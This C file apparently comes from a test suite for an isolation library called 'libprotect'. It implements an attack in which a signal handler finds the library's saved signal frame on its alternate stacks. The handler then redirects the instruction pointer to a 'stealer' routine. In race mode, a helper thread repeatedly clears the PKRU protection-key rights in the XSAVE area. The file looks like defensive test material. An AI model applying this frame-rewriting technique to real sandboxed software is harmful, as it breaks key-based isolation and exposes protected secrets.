/* A signal delivered while the thread is inside the library (no_defer =
 * SIGUSR2): the application's handler gets a copy of the library's context
 * (handler_inside edits that copy, to no effect); this one looks on
 * libprotect's stacks of key 0 for the context the thread will return to:
 * the real frame where the kernel writes it there (before Linux 6.12), or
 * the copy libprotect's C handler works on where frames are protected (the
 * same registers, an XSAVE area just above), and points its instruction
 * pointer at application code, which would then run with the library's
 * rights.  handler_frame; handler_frame race: the handler hands the
 * context to another thread, which keeps rewriting it (and the rights in
 * its XSAVE area) while libprotect takes the handler's changes back. */
#define _GNU_SOURCE
#include "attack.h"
#include "libprotect_symbols.h"

#include "signal_inside.h"

#include <cpuid.h>
#include <pthread.h>
#include <stdint.h>

static volatile int found;
static int racing;
static ucontext_t *volatile raced;
static volatile int stop;

/* Rewrites the context it is handed until told to stop: where it resumes,
 * and every key open in its rights. */
static void *racer(void *arg)
{
    unsigned eax, ebx, ecx, edx;
    __cpuid_count(0xd, 9, eax, ebx, ecx, edx); /* the PKRU component's offset */
    while (!stop) {
        ucontext_t *uc = raced;
        if (!uc)
            continue;
        point_at_stealer(uc->uc_mcontext.gregs);
        memset((uint8_t *)uc->uc_mcontext.fpregs + ebx, 0, 4);
    }
    return arg;
}

static void redirect(int sig, siginfo_t *si, void *ctx)
{
    ucontext_t *shown = ctx;
    void **altstack = libprotect_thread_local("altstack");
    if (!altstack)
        return;
    for (int level = 0; level < 8 && !found; level++) {
        uint8_t *lo = altstack[level];
        if (!lo)
            continue;
        for (uint8_t *p = lo; p + sizeof(ucontext_t) <= lo + 128 * 1024 && !found; p += 8) {
            /* The library's context: where the shown copy says it was,
             * and an XSAVE area just above. */
            ucontext_t *real = (ucontext_t *)p;
            uint8_t *fp = (uint8_t *)real->uc_mcontext.fpregs;
            if (real == shown || fp <= p || fp > p + 16384 ||
                real->uc_mcontext.gregs[REG_RIP] != shown->uc_mcontext.gregs[REG_RIP] ||
                real->uc_mcontext.gregs[REG_RSP] != shown->uc_mcontext.gregs[REG_RSP])
                continue;
            if (racing)
                raced = real;
            else
                point_at_stealer(real->uc_mcontext.gregs);
            found = 1;
        }
    }
}

int main(int argc, char **argv)
{
    vault_open();
    pthread_t t;
    racing = argc > 1 && strcmp(argv[1], "race") == 0;
    if (racing)
        pthread_create(&t, NULL, racer, NULL);
    signal_inside(SIGUSR2, redirect, vault_hold, 1000);
    stop = 1;
    if (racing)
        pthread_join(t, NULL);
    blocked(found ? "the frame was rewritten, and the library went on as it was" : "the frame was not found");
}
